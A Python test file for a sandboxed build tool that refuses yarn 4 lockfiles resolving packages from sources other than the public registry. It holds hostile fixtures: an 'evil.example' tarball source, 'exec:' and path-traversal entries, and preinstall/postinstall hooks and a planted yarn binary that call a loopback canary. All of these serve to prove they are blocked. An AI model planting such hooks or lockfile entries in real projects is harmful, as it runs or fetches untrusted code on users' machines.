"""Node stack images from a yarn 4 ("berry") `yarn.lock`: the host's rules, and a real build.

The fixture's lockfile was made by yarn 4.18.1 (tests/sandbox/fixtures/node-berry/README.md)
and holds yarn's built-in TypeScript patch, as any berry project with TypeScript does. The
lockfile, `.yarnrc.yml`, `.yarn/` and `packageManager` are untrusted: a source other than
the registry fails on the host before anything is built; the configuration, pointing at a
loopback canary and at a yarn binary of the tree's, is never read — the canary is never
asked, no script runs, and the image installs from the public registry with the
toolchain's own yarn 4.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from karma.config import KarmaConfig
from karma.executor.unit import run_checks
from karma.gates.npmaudit import pins_of
from karma.recipes import detect_stack
from karma.sandbox import spec_from_config
from karma.sandbox.berrylock import YARN_BERRY
from karma.sandbox.docker import DockerBackend
from karma.sandbox.images import ensure_image
from karma.sandbox.interface import ImageBuildError
from karma.sandbox.npm import check_lockfile, manager_of
from tests.sandbox.test_sandbox_images import Canary

BERRY = Path(__file__).parent / "fixtures" / "node-berry"
LOCK = (BERRY / "yarn.lock").read_text()
MANIFEST = (BERRY / "package.json").read_bytes()
MS = '"ms@npm:^2.1.3":\n  version: 2.1.3\n  resolution: "ms@npm:2.1.3"'


def _files(text: str, manifest: bytes = MANIFEST) -> dict[str, bytes]:
    return {"package.json": manifest, "yarn.lock": text.encode()}


def test_the_berry_lockfile_yarn_made_is_accepted_with_its_builtin_patch() -> None:
    assert manager_of(_files(LOCK)) == ("berry", "yarn.lock")
    assert check_lockfile(_files(LOCK)) == 6  # five packages and typescript's built-in patch
    assert ("ms", "2.1.3") in pins_of("yarn.lock", LOCK)
    assert ("typescript", "5.9.3") in pins_of("yarn.lock", LOCK)


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (MS, MS.replace("ms@npm:2.1.3", "ms@https://evil.example/ms.tgz"), "resolved to"),
        (MS, MS.replace("ms@npm:2.1.3", "ms@git+ssh://git@github.com/e/ms.git#commit=ab"),
         "resolved to"),
        (MS, MS.replace("ms@npm:2.1.3", "ms@file:../outside#../outside::hash=1"), "resolved to"),
        (MS, MS.replace("ms@npm:2.1.3", "ms@portal:../../outside::locator=x"), "resolved to"),
        (MS, MS.replace("ms@npm:2.1.3", "ms@link:../../etc::locator=x"), "resolved to"),
        (MS, MS.replace("ms@npm:2.1.3", "ms@exec:./evil.js#./evil.js::hash=1"), "resolved to"),
        (MS, MS.replace("ms@npm:2.1.3", "ms@workspace:packages/ms"), "yarn workspaces"),
        (MS, MS.replace("ms@npm:2.1.3",
                        "ms@patch:ms@npm%3A2.1.3#./.yarn/patches/ms.patch::version=2.1.3&hash=1"),
         "resolved to"),
        ('"ms@npm:^2.1.3":', '"ms@git@github.com:e/ms.git":', "names a source other"),
        ('"ms@npm:^2.1.3":', '"../../evil@npm:^2.1.3":', "names a source other"),
        ("  checksum: 10c0/d924", "  checksum: 8/d924", "no 10c0 `checksum`"),
        ("  cacheKey: 10c0", "  cacheKey: 8", "cache key '8'"),
        ("  version: 10\n", "  version: 8\n", "lockfile version 8"),
        ("__metadata:", "x: &a [1]\ny: *a\n__metadata:", "a YAML alias"),
    ],
)  # fmt: skip
def test_a_berry_lockfile_from_anywhere_but_the_public_registry_is_refused(
    old: str, new: str, reason: str
) -> None:
    assert old in LOCK
    with pytest.raises(ImageBuildError, match=re.escape("yarn.lock refused")) as caught:
        check_lockfile(_files(LOCK.replace(old, new)))
    assert reason in str(caught.value), str(caught.value)
    assert f"yarn {YARN_BERRY}" in (caught.value.tip or "")


def test_yarn_workspaces_are_refused_with_the_reason() -> None:
    manifest = json.loads(MANIFEST) | {"workspaces": ["packages/*"]}
    with pytest.raises(ImageBuildError, match=re.escape("package.json refused: `workspaces`")):
        check_lockfile(_files(LOCK, json.dumps(manifest).encode()))


def _plant(repo: Path, canary: Canary) -> None:
    """Every file yarn 4 would read in a project, pointing at the canary: a registry, a
    yarn binary of the tree's (`yarnPath`), scripts turned on, a plugin."""
    phone = f"require('http').get('{canary.url}/ran')"
    (repo / ".yarn" / "releases").mkdir(parents=True)
    (repo / ".yarn" / "releases" / "evil.cjs").write_text(f"{phone};\n")
    (repo / ".yarnrc.yml").write_text(
        f'npmRegistryServer: "{canary.url}/yarnrc-registry"\n'
        "yarnPath: .yarn/releases/evil.cjs\nenableScripts: true\nnodeLinker: pnp\n"
        "plugins:\n  - path: .yarn/releases/evil.cjs\n"
    )
    manifest = json.loads((repo / "package.json").read_text())
    manifest["scripts"] |= {"preinstall": f'node -e "{phone}"', "postinstall": f'node -e "{phone}"'}
    manifest["packageManager"] = "yarn@3.0.0"
    (repo / "package.json").write_text(json.dumps(manifest, indent=2))


@pytest.mark.docker
def test_a_berry_project_builds_from_the_registry_alone_and_its_checks_pass(
    docker_engine: str, tmp_path: Path
) -> None:
    served = tmp_path / "served"
    served.mkdir()
    canary = Canary(served)
    try:
        repo = tmp_path / "berry"
        shutil.copytree(BERRY, repo)
        _plant(repo, canary)
        config = KarmaConfig(sandbox={"base_image": docker_engine})
        built: list[str] = []
        tag = ensure_image("node", repo, config, log=built.append)
        assert canary.asked == []
        assert any("downloading 6 berry packages" in line for line in built), built
        stack = detect_stack(repo)
        assert stack is not None and stack.name == "node"
        box = DockerBackend().start(
            spec_from_config(config, image=tag, workspace=repo, run_id="test-berry", task_id="t1")
        )
        try:
            listed = box.exec("ls /node_modules", timeout_s=60)
            tools = box.exec("yarn-berry --version", timeout_s=60, workdir="/")
            checks = run_checks(stack, repo, box, ["src/duration.ts"], 180)
        finally:
            box.close()
        assert listed.output.split() == ["@types", "ms", "typescript", "undici-types"], listed
        assert tools.output.split()[-1] == YARN_BERRY, tools.output
        assert [step for step, _ in checks] == ["typecheck", "lint", "test"], checks
        assert all(outcome.ok for _, outcome in checks), [o.output for _, o in checks]
        assert canary.asked == []
    finally:
        canary.close()


@pytest.mark.docker
def test_a_berry_lockfile_out_of_date_fails_the_download_at_once(
    docker_engine: str, tmp_path: Path
) -> None:
    repo = tmp_path / "berry"
    shutil.copytree(BERRY, repo)
    manifest = json.loads((repo / "package.json").read_text())
    manifest["dependencies"]["left-pad"] = "^1.3.0"
    (repo / "package.json").write_text(json.dumps(manifest, indent=2))
    with pytest.raises(ImageBuildError, match="packages failed") as caught:
        ensure_image("node", repo, KarmaConfig(sandbox={"base_image": docker_engine}))
    assert "yarn.lock" in (caught.value.tip or "")
    assert re.search(r"lockfile would have been modified|YN0028", str(caught.value))
